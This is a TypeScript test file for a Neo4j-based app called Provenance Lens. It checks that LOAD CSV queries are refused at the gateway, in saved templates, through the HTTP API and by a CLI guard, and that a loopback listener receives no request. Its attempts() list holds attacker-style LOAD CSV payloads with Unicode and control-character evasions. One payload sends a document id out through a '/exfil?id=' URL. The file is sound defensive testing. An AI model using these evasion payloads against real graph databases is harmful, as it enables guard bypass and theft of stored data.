import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import neo4j from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createLensHandlers } from '../../electron/api/lens-handlers';
import { ServiceHub } from '../../electron/services/service-hub';
import { startWebHost, type WebHost } from '../../electron/web/web-host';
import { Deadline } from '../../shared/deadline';
import { ensureDemoGraph, fixtureDriver } from '../support/demo-graph';
import { ask, retrievalDeps } from '../support/retrieval-deps';
import { runLens } from '../support/run-lens';

const server = inject('neo4j');

/** A loopback listener that counts every request: the place LOAD CSV would fetch from. */
interface Listener {
  readonly url: string;
  readonly hits: string[];
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const hits: string[] = [];
  const listener = http.createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('a\n1\n');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const { port } = listener.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => listener.close(() => resolve())) };
}

/** LOAD CSV written as an attacker would, the lexing evasions of the report among them; the last one carries a document id out. */
function attempts(url: string): readonly string[] {
  return [
    `LOAD CSV FROM '${url}/plain.csv' AS row RETURN row`,
    `LOAD\u001cCSV FROM '${url}/fs.csv' AS row RETURN row`,
    `// note\rLOAD CSV FROM '${url}/cr-comment.csv' AS row RETURN row`,
    `load\u3000csv from '${url}/ideographic.csv' as row return row`,
    `CYPHER 5 /* x */ LoAd\u2029CsV FROM '${url}/paragraph.csv' AS row RETURN row`,
    `CALL { LOAD\u001fCSV FROM '${url}/subquery.csv' AS row RETURN row } RETURN row`,
    `MATCH (d:Document) WITH d LIMIT 1 LOAD\u00a0CSV FROM '${url}/exfil?id=' + d.document_id AS row RETURN row`,
  ];
}

describe('LOAD CSV never reaches the network, through any door', () => {
  let listener: Listener;
  let texts: readonly string[];

  beforeAll(async () => {
    await ensureDemoGraph(server);
    listener = await startListener();
    texts = attempts(listener.url);
  });

  afterAll(async () => {
    await listener.close();
  });

  it('is fetched by the server when a LOAD CSV does run (a raw driver outside the app), so the listener can tell', async () => {
    const driver = fixtureDriver(server);
    const session = driver.session({ defaultAccessMode: neo4j.session.READ });
    try {
      await session.run(`LOAD CSV FROM '${listener.url}/control.csv' AS row RETURN row`);
    } finally {
      await session.close();
      await driver.close();
    }
    expect(listener.hits).toEqual(['/control.csv']);
    listener.hits.length = 0;
  });

  it('the gateway refuses every attempt (readUntrusted)', async () => {
    const deps = retrievalDeps(server);
    try {
      for (const text of texts)
        await expect(deps.gateway.readUntrusted(text, {}, { deadline: Deadline.after(10_000) }), text).rejects.toMatchObject({
          kind: 'refused',
          detail: 'load_csv',
        });
    } finally {
      await deps.close();
    }
    expect(listener.hits).toEqual([]);
  });

  it('cypher mode refuses every attempt saved as a template and run as u-guest: a refusal, never no_evidence', async () => {
    const deps = retrievalDeps(server);
    try {
      for (const [index, text] of texts.entries()) {
        deps.store.saveQuery({ id: `load-csv-${index}`, name: 'attempt', cypher: text, created_at: new Date().toISOString() });
        const { response } = await ask(deps, {
          query: 'x',
          principal: 'u-guest',
          mode: 'cypher',
          options: { template_id: `load-csv-${index}` },
        });
        expect({ text, outcome: response.outcome, message: response.message }).toEqual({
          text,
          outcome: 'invalid_request',
          message: expect.stringMatching(/^Refused: LOAD CSV/),
        });
      }
    } finally {
      await deps.close();
    }
    expect(listener.hits).toEqual([]);
  });

  it('the HTTP door (query.run through the web host) refuses every attempt', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lens-doors-'));
    fs.mkdirSync(path.join(dir, 'renderer'));
    fs.writeFileSync(path.join(dir, 'renderer', 'index.html'), '<!doctype html><title>Provenance Lens</title>');
    const hub = new ServiceHub({
      LENS_HOME: path.join(dir, 'home'),
      NEO4J_URI: server.uri,
      NEO4J_USER: server.user,
      NEO4J_PASSWORD: server.password,
    });
    let host: WebHost | null = null;
    try {
      host = await startWebHost({ handlers: createLensHandlers(hub, 'http', 'test'), rendererDir: path.join(dir, 'renderer') });
      for (const [index, text] of texts.entries()) {
        hub.store().saveQuery({ id: `load-csv-${index}`, name: 'attempt', cypher: text, created_at: new Date().toISOString() });
        const reply = await fetch(`http://127.0.0.1:${host.port}/api/query.run`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', 'X-Lens-Token': host.token },
          body: JSON.stringify({
            request: { query: 'x', principal: 'u-guest', mode: 'cypher', options: { template_id: `load-csv-${index}` } },
          }),
        });
        const body = (await reply.json()) as { ok: boolean; value?: { response: { outcome: string; message?: string } } };
        expect({ text, ok: body.ok, outcome: body.value?.response.outcome, message: body.value?.response.message }).toEqual({
          text,
          ok: true,
          outcome: 'invalid_request',
          message: expect.stringMatching(/^Refused: LOAD CSV/),
        });
      }
    } finally {
      await host?.close();
      await hub.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
    expect(listener.hits).toEqual([]);
  }, 120_000);

  it('lens guard check refuses every attempt with exit code 3', async () => {
    for (const text of texts) {
      const run = await runLens(['guard', 'check', text], {
        LENS_HOME: '/nonexistent-lens-home',
        NEO4J_URI: server.uri,
        NEO4J_USER: server.user,
        NEO4J_PASSWORD: server.password,
      });
      expect({ text, code: run.code, stdout: run.stdout }).toEqual({ text, code: 3, stdout: expect.stringMatching(/^refused: LOAD CSV/) });
    }
    expect(listener.hits).toEqual([]);
  }, 240_000);
});
